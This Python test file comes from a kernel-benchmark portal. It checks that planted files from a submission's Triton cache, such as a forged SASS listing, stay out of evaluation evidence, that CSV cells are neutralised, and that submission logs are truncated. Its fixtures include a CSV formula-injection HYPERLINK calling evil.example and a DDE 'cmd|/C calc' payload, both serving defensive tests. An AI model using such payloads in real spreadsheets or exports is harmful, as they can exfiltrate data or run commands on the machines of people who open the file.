"""Evidence is only what the trusted side wrote (portal/submissions/evidence_files.py).

A Triton upload's compile runs its Python, which can write anything into the Triton cache; the evaluator copies
the cache into its own folder (`build-trusted/triton-cache/`), still the candidate's bytes. Before: the portal
published every `.sass`/`.csv`/`.log`/`.txt` under `build-trusted/`, so a forged `0-kernel.sass` there (sorting
before `kernel.sass`) became the evaluation page's "Show the SASS" with 40 forged HGMMA lines marked, a planted
`ncu-metrics.csv` holding `=HYPERLINK(...)` was served as evidence, and 32 planted files pushed `logs/` out of the
32 files published. Now only named files the trusted side wrote are kept, the SASS listing only when its counts are
the verdict's, CSV cells are neutralised, and the submission's own output is kept cut short and labelled.

The work folder below is what the evaluator leaves (`--workdir`), made by a stand-in for `python -m evaluator` so
the test runs the real runner, services, page, artifact route and bundle without a compiler."""

from __future__ import annotations

import dataclasses
import io
import json
import sys
import zipfile
from pathlib import Path

import pytest

from evaluator.binaries.sass import count_families
from portal.core.verdict_record import parse_verdict
from portal.submissions import evidence_files
from portal.submissions.evidence_files import collect
from portal.submissions.models import Artifact, Evaluation, Submission
from portal.submissions.runner import run_evaluator
from portal.submissions.services import evaluation_record_verdict
from tests.support import leaderboard_factories as lf
from tests.support.factories import REPO, sync_catalog
from tests.support.leaderboard_factories import leaderboard_isolation  # noqa: F401 - autouse fixture

HONEST_SASS = (
    "\tcode for sm_90a\n"
    "\t\tFunction : gemm_simt\n"
    "        /*0000*/                   LDC R1, c[0x0][0x28] ;\n"
    "        /*0010*/                   S2R R0, SR_TID.X ;\n"
    "        /*0020*/                   FFMA R2, R3, R4, R2 ;\n"
    "        /*0030*/                   EXIT ;\n"
)
FORGED_SASS = "\t\tFunction : gemm_simt\n" + "".join(
    f"        /*{16 * i:04x}*/                   HGMMA.64x256x16.F32.BF16 R24, gdesc[UR4], RZ, !UPT, gsb0 ;\n"
    for i in range(40)
)
PLANTED_CSV = b'"ID","Kernel Name","Metric"\n"0","=HYPERLINK(""http://evil.example/?""&A1,""open"")","1"\n'
NCU_RAW = (
    b'"ID","Kernel Name","gpu__time_duration.sum"\n"0","gemm_simt","-1.5"\n"1","@SUM(1+1)*cmd|\' /C calc\'!A0","2"\n'
)
CACHE = Path("build-trusted/triton-cache/Q2VJ7ABC")


def _document(source: str = "// kernel\n") -> dict:
    document = lf.verdict(source=source, status="STATIC_ONLY", arch_status="absent", speedup=None)
    document["sass"] = dataclasses.asdict(count_families(HONEST_SASS, "sm_90a"))
    return document


def _work_folder(keep: Path, *, planted: int = 40) -> None:
    """What the evaluator leaves: its own files, and a Triton cache copy full of planted ones."""
    (keep / CACHE).mkdir(parents=True)
    (keep / "build-trusted" / "kernel.sass").write_text(HONEST_SASS)
    (keep / CACHE / "0-kernel.sass").write_text(FORGED_SASS)
    (keep / CACHE / "ncu-metrics.csv").write_bytes(PLANTED_CSV)
    for i in range(planted):
        (keep / CACHE / f"{i:02d}-planted{('.sass', '.csv', '.txt', '.log')[i % 4]}").write_text(FORGED_SASS)
    logs = keep / "logs"
    logs.mkdir()
    (logs / "ncu-raw.csv").write_bytes(NCU_RAW)
    (logs / "ncu-source.csv").write_text('"Address","Source"\n"0x0","FFMA R2, R3, R4, R2"\n')
    (logs / "candidate-1a2b3c4d.stdout").write_text("printed by the submission\n")
    (logs / "baseline-1a2b3c4d.stdout").write_text("the trusted baseline process\n")
    (logs / "ncu.log").write_text("==PROF== Connected to process\nprinted by the submission\n")


def _collect(keep: Path, document: dict, **caps):
    return collect(
        keep,
        source_name="kernel.py",
        source="// kernel\n",
        verdict_bytes=json.dumps(document).encode(),
        record=parse_verdict(document),
        max_bytes=caps.get("max_bytes", 32 << 20),
        log_max_bytes=caps.get("log_max_bytes", 64 << 10),
    )


def test_only_named_trusted_files_are_kept_and_planted_ones_never_push_them_out(tmp_path):
    keep = tmp_path / "evaluator"
    _work_folder(keep, planted=48)
    evidence = _collect(keep, _document())
    kept = {f.name: f for f in evidence.files}
    assert set(kept) == {
        "kernel.py",
        "verdict.json",
        "compile.log",
        "kernel.sass",
        "ncu-raw.csv",
        "ncu-source.csv",
        "submission-candidate-1a2b3c4d.stdout.txt",
        "submission-ncu.log.txt",
    }
    assert kept["kernel.sass"].data.decode() == HONEST_SASS and kept["kernel.sass"].origin == Artifact.Origin.EVALUATOR
    assert all(b"HGMMA" not in f.data and b"HYPERLINK" not in f.data for f in evidence.files)
    origins = {name: f.origin for name, f in kept.items()}
    assert origins["submission-ncu.log.txt"] == origins["submission-candidate-1a2b3c4d.stdout.txt"] == "submission"
    assert origins["compile.log"] == "tool" and origins["kernel.py"] == "source"


def test_a_listing_that_is_not_what_the_verdict_counted_is_not_kept(tmp_path):
    keep = tmp_path / "evaluator"
    _work_folder(keep)
    (keep / "build-trusted" / "kernel.sass").write_text(HONEST_SASS + FORGED_SASS)
    evidence = _collect(keep, _document())
    assert "kernel.sass" not in {f.name for f in evidence.files}
    (refused,) = [n for n in evidence.not_kept if n.name == "kernel.sass"]
    assert "not the ones the verdict's SASS counts were made from" in refused.reason
    # No counts in the verdict (the SASS stage did not run): nothing to check a listing against, so none is kept.
    assert "kernel.sass" not in {f.name for f in _collect(keep, {**_document(), "sass": None}).files}


def test_csv_cells_are_neutralised_and_numbers_left_alone(tmp_path):
    keep = tmp_path / "evaluator"
    _work_folder(keep)
    raw = {f.name: f.data for f in _collect(keep, _document()).files}["ncu-raw.csv"].decode()
    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in raw or "'@SUM(1+1)" in raw
    assert ",-1.5\n" in raw  # a negative number is a number, not a formula
    cells = [cell for line in raw.splitlines() for cell in line.split(",")]
    assert not any(cell.strip('"').startswith(("=", "+", "@")) for cell in cells)


def test_the_submissions_output_is_kept_cut_short_and_labelled(tmp_path):
    keep = tmp_path / "evaluator"
    _work_folder(keep)
    (keep / "logs" / "candidate-1a2b3c4d.stderr").write_bytes(b"x" * 200_000)
    kept = {f.name: f for f in _collect(keep, _document(), log_max_bytes=4096).files}
    stderr = kept["submission-candidate-1a2b3c4d.stderr.txt"]
    assert stderr.origin == Artifact.Origin.SUBMISSION
    assert stderr.data.startswith(b"x" * 4096) and b"the first 4096 of 200000 bytes are kept" in stderr.data
    assert len(stderr.data) < 4096 + 100
    assert not any("baseline" in name for name in kept)  # not the submission's output


def _stand_in_evaluator(tmp_path: Path, document: dict) -> str:
    """An EVALUATOR_PYTHON whose `-m evaluator run ... --json V --workdir W` leaves the folder above and `document`."""
    template = tmp_path / "template"
    _work_folder(template)
    (tmp_path / "verdict-doc.json").write_text(json.dumps(document))
    script = tmp_path / "python"
    script.write_text(
        f"#!{sys.executable}\n"
        "import shutil, sys\n"
        "args = sys.argv\n"
        "json_path, workdir = args[args.index('--json') + 1], args[args.index('--workdir') + 1]\n"
        f"shutil.copytree({str(template)!r}, workdir)\n"
        f"shutil.copy({str(tmp_path / 'verdict-doc.json')!r}, json_path)\n"
    )
    script.chmod(0o755)
    return str(script)


@pytest.mark.django_db
def test_a_planted_sass_and_csv_never_reach_the_page_the_artifacts_or_the_bundle(client, tmp_path):
    sync_catalog()
    source = "import triton\n"
    document = _document(source)
    owner = lf.user("mallory")
    submission = Submission.objects.create(
        user=owner, task=lf.task(), arch="sm_90a", language="triton", name="forger.py", source=source,
        source_sha256=document["source_sha256"], source_bytes=len(source),
    )  # fmt: skip
    evaluation = Evaluation.objects.create(submission=submission, state="running", queue="gpu-sm90", worker_name="w")
    result = run_evaluator(
        source=source,
        task=lf.GEMM,
        arch="sm_90a",
        stages="all",
        workdir=tmp_path / "run",
        tasks_root=REPO / "tasks",
        timeout=60,
        on_events=lambda events: True,
        python=_stand_in_evaluator(tmp_path, document),
        language="triton",
    )
    assert result.verdict is not None, result.error
    assert evaluation_record_verdict(
        evaluation_id=str(evaluation.id), worker_name="w", verdict=result.verdict, record=result.record, files=result.files,
        not_kept=result.not_kept,
    )  # fmt: skip
    names = set(evaluation.artifacts.values_list("name", flat=True))
    assert "0-kernel.sass" not in names and "ncu-metrics.csv" not in names
    assert {"kernel.sass", "ncu-raw.csv", "submission-candidate-1a2b3c4d.stdout.txt"} <= names

    page = client.get(f"/evidence/evaluations/{evaluation.id}/").content.decode()
    sass = page.split('id="sass-view"', 1)[1].split("</details>", 1)[0]
    assert "FFMA R2, R3, R4, R2" in sass and "HGMMA" not in sass and "sass-target" not in sass
    assert "written by the submission" in page and "written by the evaluator" in page
    for planted in ("0-kernel.sass", "ncu-metrics.csv"):
        assert client.get(f"/evidence/evaluations/{evaluation.id}/artifacts/{planted}").status_code == 404
    raw = client.get(f"/evidence/evaluations/{evaluation.id}/artifacts/ncu-raw.csv").content.decode()
    assert "'@SUM" in raw

    response = client.get(f"/evidence/submissions/{submission.id}/bundle.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    contents = b"".join(archive.read(n) for n in archive.namelist())
    assert b"HGMMA" not in contents and b"HYPERLINK" not in contents
    manifest = json.loads(archive.read("MANIFEST.json"))
    origins = {entry["path"].rsplit("/", 1)[-1]: entry["origin"] for entry in manifest["files"]}
    assert origins["kernel.sass"] == "evaluator" and origins["submission-ncu.log.txt"] == "submission"


@pytest.mark.django_db
def test_the_page_shows_only_the_evaluators_listing_whatever_else_ends_in_sass(client):
    """Rows stored before origins were recorded may hold a planted listing named to sort first."""
    sync_catalog()
    evaluation = lf.evaluation(owner=lf.user("ada"), files={"kernel.sass": HONEST_SASS.encode()})
    forged = evaluation.artifacts.create(
        name="0-kernel.sass", content_type="text/plain", sha256="0" * 64, size=1, path="x", origin=""
    )
    page = client.get(f"/evidence/evaluations/{evaluation.id}/").content.decode()
    assert "FFMA R2, R3, R4, R2" in page.split('id="sass-view"', 1)[1] and "HGMMA" not in page
    assert "origin not recorded" in page
    evaluation.artifacts.filter(name="kernel.sass").delete()
    page = client.get(f"/evidence/evaluations/{evaluation.id}/").content.decode()
    assert 'id="sass-view"' not in page  # no listing rather than the planted one
    assert forged.name in page  # still listed, labelled


def test_the_collector_reads_the_sass_stages_own_path():
    """The path the evaluator's SASS stage writes its listing to (evaluator/build/build_stages.py), as the runner lays
    out the evaluator's work folder: a move there must move the collector's name too."""
    from evaluator.both_sides.verdict import CompileResult
    from evaluator.build.build_stages import trusted_sass_path
    from evaluator.build.compile import CompiledKernel

    build = Path("/w/evaluator/build")
    compiled = CompiledKernel(CompileResult(ok=True, command=[], returncode=0, seconds=0.0, output=""), None, None)
    where = trusted_sass_path(compiled, build)
    assert where == build.parent / evidence_files.TRUSTED_SASS.folder / evidence_files.TRUSTED_SASS.name


@pytest.mark.django_db
def test_files_stored_before_origins_get_only_the_origin_their_path_made_certain():
    """The data migration: a legacy `0-kernel.sass` (the planted listing) never becomes the evaluator's."""
    import importlib

    from django.apps import apps

    migration = importlib.import_module("portal.submissions.migrations.0006_artifact_origin_and_caps")
    sync_catalog()
    uploaded = lf.evaluation(owner=lf.user("mallory"))
    uploaded.verdict = _document()
    uploaded.save(update_fields=["verdict"])
    imported = lf.evaluation(owner=None, kind="reference")
    Evaluation.objects.filter(pk=imported.pk).update(worker_name=migration.IMPORTER)
    for evaluation, names in (
        (uploaded, ("kernel.sass", "0-kernel.sass", "ncu-metrics.csv")),
        (imported, ("ncu_source.csv",)),
    ):
        for name in names:
            evaluation.artifacts.create(name=name, content_type="text/plain", sha256="0" * 64, size=1, path="x")
    Artifact.objects.update(origin="")
    migration._origins(apps, None)
    origins = {(a.evaluation_id, a.name): a.origin for a in Artifact.objects.all()}
    assert origins[(uploaded.id, "kernel.cu")] == "source" and origins[(uploaded.id, "verdict.json")] == "evaluator"
    assert origins[(uploaded.id, "kernel.sass")] == "evaluator"
    assert origins[(uploaded.id, "0-kernel.sass")] == origins[(uploaded.id, "ncu-metrics.csv")] == ""
    assert origins[(imported.id, "ncu_source.csv")] == "evaluator"
